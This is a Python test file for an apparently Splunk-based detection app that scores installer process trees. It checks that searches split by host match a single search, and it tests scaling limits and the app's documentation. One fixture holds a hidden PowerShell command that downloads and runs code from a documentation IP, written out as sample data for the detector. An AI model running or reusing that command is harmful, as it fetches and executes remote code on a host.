"""What a search reads as hosts grow, and that parts of the hosts give what one search gives."""

from __future__ import annotations

import re
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from installer_trees.model import Settings
from spl.app import App
from spl.cases import NOW, START
from test_spl_macros import CIM, MSIEXEC, case_hosts, process

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench import report, results, simulate
from bench.simulate import HOSTS_A_SUBSEARCH, ROWS_A_SEARCH, Fleet, Load

PARTS = 4
LOWERED = {"installer_score", "installer_severity", "risk_score", "risk_message", "signal_detail",
           "score_json", "dest_prevalence"}  # fmt: skip
"""Columns in which it shows how many hosts of this search have a tree like this one."""

Rows = list[dict[str, Any]]


@pytest.fixture(scope="module")
def app(built_app: Path) -> App:
    return App(built_app, NOW)


@pytest.fixture(scope="module")
def processes() -> Rows:
    """Give each matching case of the signals a host of its own."""
    return [
        {**{field: value for field, value in event.items() if field in CIM}, "dest": host}
        for host, events in case_hosts()
        for event in events
        if "dest_ip" not in event
    ]


def search(app: App, macro: str, data: dict[str, Rows], command: str = "installerscore") -> Rows:
    return app.run(f"| `{macro}` | {command}", data, "0", str(START + 86_400)).rows


def in_parts(app: App, macro: str, data: dict[str, Rows], parts: int = PARTS) -> list[Rows]:
    return [search(app, f"{macro}_part({part}, {parts})", data) for part in range(parts)]


def assert_same_trees(parts: list[Rows], whole: Rows) -> None:
    """Compare all columns of trees that one host has, all but `LOWERED` of the others."""
    rows = [row for part in parts for row in part]
    found = {row["installer_tree_id"]: row for row in rows}
    wanted = {row["installer_tree_id"]: row for row in whole}
    assert len(found) == len(rows)
    assert set(found) == set(wanted)
    for tree_id, row in wanted.items():
        columns = set(row) if row["dest_prevalence"] == "1" else set(row) - LOWERED
        assert {c: found[tree_id][c] for c in columns} == {c: row[c] for c in columns}


def test_parts_give_the_same_trees_as_one_search(app: App, processes: Rows) -> None:
    data = {"Endpoint.Processes": processes}
    whole = search(app, "installer_process_events", data)
    parts = in_parts(app, "installer_process_events", data)
    assert_same_trees(parts, whole)
    assert len(whole) > 400
    assert sum(row["dest_prevalence"] == "1" for row in whole) > 200
    assert min(map(len, parts)) > 0.7 * len(whole) / PARTS


def test_parts_of_events_of_all_kinds_give_the_same_trees(app: App) -> None:
    data: dict[str, Rows] = {
        "Endpoint.Processes": [{**MSIEXEC, "dest": f"h{n}"} for n in range(40)],
        "Endpoint.Filesystem": [
            {"_time": START + 1, "dest": f"h{n}", "process_id": 1, "action": "created",
             "file_path": "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\"
             "Programs\\Startup\\a.lnk"}
            for n in range(40)
        ],
        "Network_Traffic.All_Traffic": [
            {"_time": START + 1, "src": f"h{n}", "dest": "203.0.113.7", "dest_port": 443,
             "process_id": 1}
            for n in range(40)
        ],
    }  # fmt: skip
    whole = search(app, "installer_endpoint_events", data)
    parts = in_parts(app, "installer_endpoint_events", data)
    assert_same_trees(parts, whole)
    assert {row["signal"] != "" for row in whole} == {True}
    assert len(whole) == 40


def test_a_host_is_in_one_part_whatever_its_case(app: App) -> None:
    names = [name for n in range(200) for name in (f"Host{n}", f"HOST{n}")]
    data = {"Endpoint.Processes": [{**MSIEXEC, "dest": name} for name in names]}
    seen: Counter[str] = Counter()
    for part in range(PARTS):
        rows = search(app, f"installer_process_events_part({part}, {PARTS})", data, "fields dest")
        seen.update({row["dest"].lower() for row in rows})
        assert len(rows) > 0.6 * len(names) / PARTS
    assert set(seen.values()) == {1}
    assert len(seen) == 200


def test_a_part_above_nine_thousand_hosts_still_has_its_own_hosts_only(app: App) -> None:
    rows = [{**MSIEXEC, "dest": f"h{n:05}"} for n in range(19_000)]
    data = {"Endpoint.Processes": rows}
    found = [
        search(app, f"installer_process_events_part({n}, 2)", data, "fields dest") for n in range(2)
    ]
    assert max(map(len, found)) > 9_000
    assert sum(map(len, found)) == 19_000


def test_a_part_has_a_time_window_of_its_own(app: App) -> None:
    rows = [{**MSIEXEC, "_time": NOW - age} for age in (600, 1800)]
    result = app.run(
        "| `installer_process_events_part(0, 1, -20m, now)`", {"Endpoint.Processes": rows}, "-1h"
    )
    assert [float(row["_time"]) for row in result.rows] == [NOW - 600]


def test_what_is_on_many_hosts_scores_higher_in_parts_and_never_lower(app: App) -> None:
    """Each part sees fewer hosts with the same tree, so prevalence lowers the score by less."""
    rows = [
        event
        for n in range(120)
        for event in (
            {**MSIEXEC, "dest": f"h{n}"},
            process(dest=f"h{n}", process_id=2, parent_process_id=1, _time=START + 1,
                    process_name="powershell.exe",
                    process="powershell.exe -nop -w hidden -c IEX (irm https://203.0.113.7/a)"),
        )
    ]  # fmt: skip
    data = {"Endpoint.Processes": rows}
    whole = {row["dest"]: row for row in search(app, "installer_process_events", data)}
    parts = [row for part in in_parts(app, "installer_process_events", data) for row in part]
    assert {row["dest"] for row in parts} == set(whole)
    assert len(whole) == 120
    for row in parts:
        alone, all_hosts = (int(r["installer_score"]) for r in (row, whole[row["dest"]]))
        assert 20 < all_hosts < alone <= all_hosts / 0.8 + 1


def test_asking_first_reads_fewer_rows_the_rarer_installs_are() -> None:
    loads = [simulate.simulate(Fleet(5_000, installs)) for installs in (0.1, 1.0, 10.0)]
    assert loads[0].rows < loads[1].rows < loads[2].rows <= loads[2].all_rows
    assert loads[0].rows < 0.15 * loads[0].all_rows
    assert len({load.all_rows for load in loads}) == 1


def test_the_simulation_keeps_the_means_that_it_is_given() -> None:
    load = simulate.simulate(Fleet(20_000, installs=3.0, events=500, window=24, busiest=1))
    assert load.all_rows == pytest.approx(20_000 * 500, rel=0.03)
    assert load.trees == pytest.approx(20_000 * 3, rel=0.1)


@pytest.mark.parametrize(
    ("hosts", "rows", "parts"),
    [(9_000, 2_000_000, 1), (9_001, 10, 2), (10, 2_000_001, 2), (40_000, 10, 8), (0, 0, 1)],
)
def test_parts_keep_below_the_limits_of_a_search(hosts: int, rows: int, parts: int) -> None:
    assert Load(hosts, rows, rows, hosts).parts() == parts


def test_the_limits_are_those_of_the_macro_and_of_the_engine(app: App) -> None:
    assert f"hosts > {HOSTS_A_SUBSEARCH}," in app.macros["installer_hosts(4)"].definition
    assert Settings().maxevents == ROWS_A_SEARCH


@pytest.mark.slow
def test_the_page_on_scale_says_what_the_simulation_gives() -> None:
    text = simulate.DOC.read_text(encoding="utf-8")
    parts = simulate.generated(results.load())
    assert text == report.replaced(text, parts), "run python -m bench.simulate"


def test_the_docs_say_how_many_hosts_fit_into_a_week() -> None:
    """At the process creations a host a day that docs/scale.md counts with."""
    hosts = Settings().maxevents / (7 * Fleet(1, 1).events)
    for page in ("tune.md", "upgrade.md"):
        text = (simulate.DOC.parent / page).read_text(encoding="utf-8")
        assert f"{hosts // 10 * 10:.0f} hosts" in text


def test_the_docs_name_the_check_of_a_question_that_finds_no_host(app: App) -> None:
    """The runner takes no hosts for none; only a live Splunk can say whether tstats does."""
    text = simulate.DOC.read_text(encoding="utf-8")
    (check,) = re.findall(r"(?m)^\| tstats count from .*no-such-host.*$", text)
    data = {"Endpoint.Processes": [{**MSIEXEC, "_time": NOW - 60, "dest": "h"}]}
    assert app.run(check, data).rows == [{"count": 0}]
